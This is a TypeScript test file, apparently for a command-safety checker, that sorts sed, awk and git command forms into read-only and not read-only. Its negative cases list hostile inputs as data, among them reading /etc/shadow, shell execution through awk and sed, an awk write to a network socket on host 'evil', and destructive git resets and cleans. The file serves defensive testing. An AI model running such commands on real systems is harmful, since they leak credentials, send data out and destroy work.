// The sed, awk and git sub-classifiers, table-driven: read-only forms and the forms that write,
// read other files or run programs.
import { describe, expect, it } from "vitest";
import { awkProgramObjection } from "./awk.js";
import { gitObjection } from "./git.js";
import { sedScriptObjection, type SedFiles } from "./sed.js";
import { literalWord } from "./command.js";

describe("sed scripts", () => {
  it.each([
    "p", "1,5p", "$p", "/re/p", "\\,re,p", "/a/,/b/d", "0~3d", "1~2!d", "s/a/b/", "s/a/b/gI",
    "s|a|b|2", "s/a\\/b/c/g", "y/abc/xyz/", "1d;$d", "/x/{p;d}", "=", "l", "l 40", "q", "q5", "Q",
    ":a;N;$!ba;s/\\n/ /g", "n;d", "$!N;P;D", "a text", "i\\\nline", "c done", "# comment\np", "s/a/b/;p",
    "/^$/d", "s/x/w/g", "s/e/E/",
  ])("%j is read-only", (script) => {
    expect(sedScriptObjection(script)).toBeUndefined();
  });

  it.each([
    ["w out", ["out"], []],
    ["1w /tmp/x", ["/tmp/x"], []],
    ["W out", ["out"], []],
    ["s/a/b/w out", ["out"], []],
    ["s/a/b/gw out", ["out"], []],
    ["s/a/b/3pw out", ["out"], []],
    ["s|a|b|w out", ["out"], []],
    ["p;w a\nw b", ["a", "b"], []],
    ["r /etc/shadow\nw out", ["out"], ["/etc/shadow"]],
    ["1R in\ne id", [], ["in"]],
    ["e id", [], []],
    ["1e", [], []],
    ["s/x/id/e", [], []],
    ["s/x/id/ge", [], []],
    ["/x/e", [], []],
    ["$!{h;d};x;s/a/b/gw out", ["out"], []],
    ["v;e id", [], []],
    ["L", [], []],
    ["s/a/b/ w x", ["x"], []],
    ["k", [], []],
    ["s/a", [], []],
  ])("%j is not read-only", (script, writes, reads) => {
    const files: SedFiles = { writes: [], reads: [] };
    expect(sedScriptObjection(script, files)).toBeDefined();
    expect(files.writes).toEqual(writes);
    expect(files.reads).toEqual(reads);
  });
});

describe("awk programs", () => {
  it.each([
    "{print $1}", "NR>1", "$3 > 100 {print $1}", "{ print ($1 > 5) }", "/a|b/", "$1 ~ /x|y/ {n++} END {print n}",
    "BEGIN{FS=\":\"} {print $1}", "{ a[$1] += $2 } END { for (k in a) print k, a[k] }", "NR==1 || NR==2",
    "{ printf \"%s\\n\", $0 }", "{ x = $1 / 2; print x }", "{ if (length($0) > 80) print }",
  ])("%j is read-only", (program) => {
    expect(awkProgramObjection(program)).toBeUndefined();
  });

  it.each([
    "BEGIN{system(\"id\")}", "{print > \"out\"}", "{print >> \"out\"}", "{printf \"x\" > \"f\"}",
    "{print | \"sh\"}", "BEGIN{\"id\" | getline}", "BEGIN{f = \"/etc/shadow\"; getline l < f}", "{print |& \"cmd\"}",
    "BEGIN{f=\"system\"; @f(\"id\")}", "@include \"x\"", "@load \"ordchr\"", "{ printf(\"%s\", $0) > \"f\" }",
    "x++ /1; print | \"sh\" #/", "BEGIN { print \"x\" > \"/inet/tcp/0/evil/80\" }",
  ])("%j is not read-only", (program) => {
    expect(awkProgramObjection(program)).toBeDefined();
  });
});

describe("git invocations", () => {
  const git = (s: string) => gitObjection(s.split(" ").map(literalWord));
  it.each([
    "git status", "git log --oneline -5", "git diff HEAD~1", "git show HEAD:x", "git blame f",
    "git branch", "git branch -a -v", "git branch --list feat*", "git branch --contains abc",
    "git tag", "git tag -l v*", "git remote", "git remote -v", "git remote get-url origin",
    "git config --get user.name", "git config -l", "git config user.name", "git config get user.name", "git reflog",
    "git stash list", "git worktree list", "git rev-parse HEAD", "git ls-files -o", "git --no-pager log",
    "git diff --output-indicator-new=+", "git log --exclude=x --all", "git symbolic-ref HEAD",
    // Judged as git in that directory; the decision requires the cwd's own repository (git-repo.ts).
    "git --work-tree=x status", "git --git-dir=x/.git log",
  ])("%j is read-only", (command) => {
    expect(git(command)).toBeUndefined();
  });

  it.each([
    "git -c core.pager=x log", "git --config-env=a=b log", "git --git-dir=x log",
    "git --work-tree= status", "git --git-dir=x/.git/hooks log", "git --exec-path=x log", "git log --output=x", "git diff --out=x",
    "git diff --ext-diff", "git log --ext", "git grep -O x", "git grep -Ovim x", "git grep --open-files-in-pager=x y",
    "git fetch --upload-pack=x", "git ls-remote origin", "git remote show origin", "git branch x",
    "git branch -d x", "git branch -Dx", "git branch --set-upstream-to=o/x", "git tag v1", "git tag -a v1",
    "git config user.name x", "git config --unset x", "git config -e", "git stash", "git stash pop",
    "git reflog expire", "git worktree add x", "git notes add", "git symbolic-ref HEAD refs/heads/x",
    "git commit", "git push", "git checkout x", "git reset --hard", "git clean -fdx", "git lg",
  ])("%j is not read-only", (command) => {
    expect(git(command)).toBeDefined();
  });
});
